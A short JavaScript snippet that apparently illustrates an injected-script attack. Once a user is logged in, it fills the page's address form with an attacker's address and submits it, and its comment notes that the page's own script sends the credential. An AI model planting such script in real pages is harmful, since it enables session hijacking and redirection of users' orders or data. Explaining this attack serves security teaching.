let isDone = false;
inEachState((state) => {
  const form = document.querySelector("#address");
  if (state !== "logged in" || isDone) return;
  isDone = true;
  // The page's own form and script send the request with the credential, wherever it is kept.
  form.elements.address.value = "1 Back Alley, care of the attacker";
  form.requestSubmit();
});
